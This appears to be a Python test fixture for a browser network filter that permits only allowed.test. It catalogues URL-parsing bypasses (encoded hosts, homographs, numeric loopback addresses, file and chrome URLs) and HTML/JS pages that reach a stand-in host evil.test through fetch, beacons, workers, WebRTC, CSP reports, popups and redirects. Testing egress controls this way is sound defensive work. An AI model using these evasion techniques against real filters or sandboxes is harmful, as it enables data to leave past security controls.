"""What tries to make a browser talk to evil.test: addresses, pages, clicks and side channels.

Allowed is allowed.test alone, on the port of the corpus site (`PORT` in the texts). A page asks for
`/done?NAME` when it has had its time; what reached the server by then under any other name is a
leak. Control runs without any gate show that each trick works.
"""

from dataclasses import dataclass

from tests.support.corpus_site import MARKER, Page

_EVIL = "http://NAME.evil.test:PORT"
_PATIENCE = 700  # ms a page gives its own trick

# 44 addresses. The first column names the case, the second is what a caller asks for.
ADDRESSES: tuple[tuple[str, str], ...] = (
    ("plain", f"{_EVIL}/"),
    ("redirect", "http://allowed.test:PORT/redirect"),
    ("redirect chain", "http://allowed.test:PORT/chain"),
    ("userinfo", "http://allowed.test@evil.test:PORT/"),
    ("userinfo with port", "http://allowed.test:PORT@evil.test:PORT/"),
    ("suffix", "http://allowed.test.evil.test:PORT/"),
    ("prefix", "http://notallowed.test:PORT/"),
    ("subdomain", "http://sub.allowed.test:PORT/"),
    ("trailing dot", "http://allowed.test.:PORT/"),
    ("percent letter", "http://%65vil.test:PORT/"),
    ("percent dot", "http://evil%2etest:PORT/"),
    ("backslash", "http://evil.test:PORT\\@allowed.test:PORT/"),
    ("backslashes", "http:\\\\evil.test:PORT\\"),
    ("tab", "http://ev\til.test:PORT/"),
    ("newline", "http://ev\nil.test:PORT/"),
    ("full-width", "http://ｅvil.test:PORT/"),  # noqa: RUF001
    ("ideographic dot", "http://evil。test:PORT/"),
    ("homograph", "http://аllowed.test:PORT/"),  # noqa: RUF001
    ("upper case", "http://EVIL.TEST:PORT/"),
    ("fragment at", "http://evil.test:PORT#@allowed.test/"),
    ("query at", "http://evil.test:PORT?@allowed.test/"),
    ("path", "http://evil.test:PORT/allowed.test/"),
    ("127.0.0.1", "http://127.0.0.1:PORT/"),
    ("localhost", "http://localhost:PORT/"),
    ("decimal", "http://2130706433:PORT/"),
    ("hex", "http://0x7f000001:PORT/"),
    ("octal", "http://0177.0.0.1:PORT/"),
    ("short", "http://127.1:PORT/"),
    ("IPv6", "http://[::1]:PORT/"),
    ("mapped IPv6", "http://[::ffff:127.0.0.1]:PORT/"),
    ("unspecified", "http://0.0.0.0:PORT/"),
    ("data", f"data:text/html,<iframe src='{_EVIL}/'></iframe>"),
    ("javascript", f"javascript:location.href='{_EVIL}/'"),
    ("file", "file:///etc/hostname"),
    ("view-source file", "view-source:file:///etc/hostname"),
    ("view-source", f"view-source:{_EVIL}/"),
    ("chrome version", "chrome://version/"),
    ("chrome settings", "chrome://settings/"),
    ("devtools", "devtools://devtools/bundled/inspector.html"),
    ("blob", f"blob:{_EVIL}/0a1b"),
    ("filesystem", f"filesystem:{_EVIL}/temporary/x"),
    ("blank", "about:blank"),
    ("no scheme", "//evil.test:PORT/"),
    ("double scheme", f"http:{_EVIL}/"),
)

HOPS = {
    "/redirect": Page(status=302, headers=(("location", f"{_EVIL}/"),)),
    "/chain": Page(status=302, headers=(("location", "/chain2"),)),
    "/chain2": Page(status=307, headers=(("location", "/redirect"),)),
    "/redirected-to": Page(
        status=302, headers=(("location", "http://redirected.evil.test:PORT/"),)
    ),
    "/plain": Page("<title>plain</title><p>here</p>"),
}


@dataclass(frozen=True, slots=True)
class Trick:
    """A page that tries one thing by itself, or when its one link or button is clicked."""

    name: str
    html: str
    click: bool = False
    modifiers: int = 0
    leaves: bool = False  # it navigates itself away, so nobody is left to say it is done
    until: str = ""  # what has to be so, beside time, before it is done: a promise of the page
    extra: tuple[tuple[str, Page], ...] = ()
    headers: tuple[tuple[str, str], ...] = ()

    @property
    def path(self) -> str:
        return "/" + self.name.replace(" ", "-")

    @property
    def done(self) -> str:
        return f"/done?{self.path[1:]}"

    def pages(self) -> dict[str, Page]:
        """What the site has to serve for it."""
        begin = "onclick = () => " if self.click else ""
        call = f"setTimeout(() => fetch('{self.done}'), {_PATIENCE})"
        if self.until:
            call = f"{self.until}.then(() => {call})"
        script = "" if self.leaves else f"<script>{begin}{call}</script>"
        page = Page(f"<title>{self.name}</title>{self.html}{script}", headers=self.headers)
        return {self.path: page, **dict(self.extra)}

    @property
    def host(self) -> str:
        """The name this trick is after; one of its own, so that nothing is known of it yet."""
        return f"{self.path[1:]}.evil.test"


def _script(name: str, code: str, **more: object) -> Trick:
    return Trick(name, f"<script>{code}</script>", **more)  # type: ignore[arg-type]


def _worker_file(name: str, code: str) -> tuple[tuple[str, Page], ...]:
    return ((f"/{name}.js", Page(code, "text/javascript")),)


# 12 pages.
PAGES: tuple[Trick, ...] = (
    Trick("iframe", f"<iframe src='{_EVIL}/frame'></iframe>"),
    Trick("image", f"<img src='{_EVIL}/image'>"),
    _script("fetch", f"fetch('{_EVIL}/fetch').then(r => r.text()).then(t => document.title = t)"),
    _script("beacon", f"navigator.sendBeacon('{_EVIL}/beacon', 'x')"),
    _script("location", f"setTimeout(() => location = '{_EVIL}/location')", leaves=True),
    Trick("refresh", f"<meta http-equiv=refresh content='0;{_EVIL}/refresh'>", leaves=True),
    _script("websocket", f"new WebSocket('{_EVIL}/socket'.replace('http', 'ws'))"),
    Trick(
        "prefetch",
        "".join(f"<link rel={r} as=fetch href='{_EVIL}/{r}'>" for r in ("prefetch", "preload")),
    ),
    _script(
        "worker",
        "new Worker('/work.js')",
        extra=_worker_file("work", f"fetch('{_EVIL}/worker'); importScripts('{_EVIL}/import.js')"),
    ),
    _script(
        "shared worker",
        "new SharedWorker('/shared.js')",
        extra=_worker_file("shared", f"fetch('{_EVIL}/shared')"),
    ),
    Trick("srcdoc", f"<iframe srcdoc=\"<img src='{_EVIL}/srcdoc'>\"></iframe>"),
    _script(
        "blob frame",
        "const b = new Blob([\"<img src='" + _EVIL + "/blob'>\"], {type: 'text/html'});"
        "document.write(`<iframe src='${URL.createObjectURL(b)}'></iframe>`)",
    ),
)

# 5 clicks; the page is one element wide and high.
_WIDE = "style='display:block;width:400px;height:400px'"
CLICKS: tuple[Trick, ...] = (
    Trick(
        "window open",
        f"<button {_WIDE} onclick=\"window.open('{_EVIL}/open')\">x</button>",
        click=True,
    ),
    Trick("blank target", f"<a {_WIDE} target=_blank href='{_EVIL}/blank'>x</a>", click=True),
    Trick(
        "form post",
        f"<form method=post target=_blank action='{_EVIL}/post'><button {_WIDE}>x</button></form>",
        click=True,
    ),
    Trick(
        "written popup",
        f"<button {_WIDE} onclick=\"self.open('').document.write('<img src={_EVIL}/w>')\">x",
        click=True,
    ),
    Trick(
        "javascript link",
        f"<a {_WIDE} href=\"javascript:location='{_EVIL}/js'\">x</a>",
        leaves=True,
        click=True,
    ),
)

# 12 side channels.
CHANNELS: tuple[Trick, ...] = (
    _script(
        "webrtc",
        "const c = new RTCPeerConnection({iceServers: [{urls: 'stun:NAME.evil.test:PORT'}]});"
        "c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))",
    ),
    Trick("dns prefetch", "<link rel=dns-prefetch href='http://NAME.evil.test:PORT'>"),
    Trick("preconnect", f"<link rel=preconnect href='{_EVIL}'>"),
    Trick("ping", f"<a {_WIDE} href='/plain' target=_blank ping='{_EVIL}/ping'>x</a>", click=True),
    Trick(
        "csp report",
        "<img src='data:image/gif;base64,AAAA'>",
        headers=(("content-security-policy", f"img-src 'none'; report-uri {_EVIL}/report"),),
    ),
    _script("event source", f"new EventSource('{_EVIL}/events')"),
    Trick(
        "css",
        f"<style>@import '{_EVIL}/import.css';"
        f"@font-face {{ font-family: f; src: url({_EVIL}/font) }}"
        "p { font-family: f }</style><p>x",
    ),
    _script(
        "service worker",
        "navigator.serviceWorker.register('/service.js')",
        # Chrome would start it again, for an update, when no tab of ours shows its site any more:
        # what it asks for then is not ours to hold, where the browser is not ours alone.
        until="navigator.serviceWorker.ready.then(it => it.unregister())",
        extra=_worker_file(
            "service", f"fetch('{_EVIL}/service'); oninstall = () => fetch('{_EVIL}/in')"
        ),
    ),
    _script("fetch keepalive", f"fetch('{_EVIL}/keep', {{mode: 'no-cors', keepalive: true}})"),
    _script(
        "worker websocket",
        "new Worker('/wsw.js')",
        extra=_worker_file("wsw", "new WebSocket('ws://NAME.evil.test:PORT/wsw')"),
    ),
    Trick(
        "download",
        f"<a {_WIDE} download href='/away'>x</a>",
        click=True,
        leaves=True,
        extra=(("/away", Page(status=302, headers=(("location", f"{_EVIL}/download"),))),),
    ),
    Trick(
        "noopener",
        f"<a {_WIDE} target=_blank rel=noopener href='{_EVIL}/noopener'>x</a>",
        click=True,
    ),
)

_CTRL, _SHIFT = 2, 8


def _opens(name: str, code: str) -> Trick:
    return Trick(name, f'<button {_WIDE} onclick="{code}">x</button>', click=True)


def _lure(name: str, code: str) -> tuple[tuple[str, Page], ...]:
    """A page that is allowed and goes to work at once."""
    return ((f"/{name}", Page(f"<title>{name}</title><script>{code}</script>")),)


# Beyond the 61 and 12: other ways of pop-ups, and workers, to be early.
EARLY: tuple[Trick, ...] = (
    Trick("ctrl click", f"<a {_WIDE} href='{_EVIL}/'>x</a>", click=True, modifiers=_CTRL),
    Trick("shift click", f"<a {_WIDE} href='{_EVIL}/'>x</a>", click=True, modifiers=_SHIFT),
    Trick(
        "ctrl lure",
        f"<a {_WIDE} href='/lure1'>x</a>",
        click=True,
        modifiers=_CTRL,
        extra=_lure("lure1", f"fetch('{_EVIL}/')"),
    ),
    Trick(
        "lure",
        f"<a {_WIDE} target=_blank href='/lure2'>x</a>",
        click=True,
        extra=_lure("lure2", f"fetch('{_EVIL}/')"),
    ),
    _opens("redirected", "window.open('/redirected-to')"),
    _opens("moved", f"const w = window.open('/plain'); w.location = '{_EVIL}/'"),
    _opens("framed", f"self.open('').document.write('<iframe src={_EVIL}/></iframe>')"),
    _opens("late", f"setTimeout(() => window.open('{_EVIL}/', '_blank', 'noopener'), 400)"),
    _script(
        "worker of two",
        "new SharedWorker('/two.js', 'a'); new SharedWorker('/two.js', 'b')",
        extra=_worker_file("two", f"fetch('{_EVIL}/'); new WebSocket('ws://NAME.evil.test:PORT')"),
    ),
)

_NO_HOST = (("content-security-policy", "sandbox allow-scripts allow-forms allow-popups"),)

# New tabs of a page that has no host, which is all that is known of a tab whose news comes late.
SANDBOXED: tuple[Trick, ...] = (
    Trick(
        "sandboxed link",
        f"<a {_WIDE} target=_blank rel=noopener href='{_EVIL}/'>x</a>",
        click=True,
        headers=_NO_HOST,
    ),
    Trick(
        "sandboxed form",
        f"<form method=post target=_blank action='{_EVIL}/'><button {_WIDE}>x</button></form>",
        click=True,
        headers=_NO_HOST,
    ),
)

__all__ = [
    "ADDRESSES",
    "CHANNELS",
    "CLICKS",
    "EARLY",
    "HOPS",
    "MARKER",
    "PAGES",
    "SANDBOXED",
    "Trick",
]
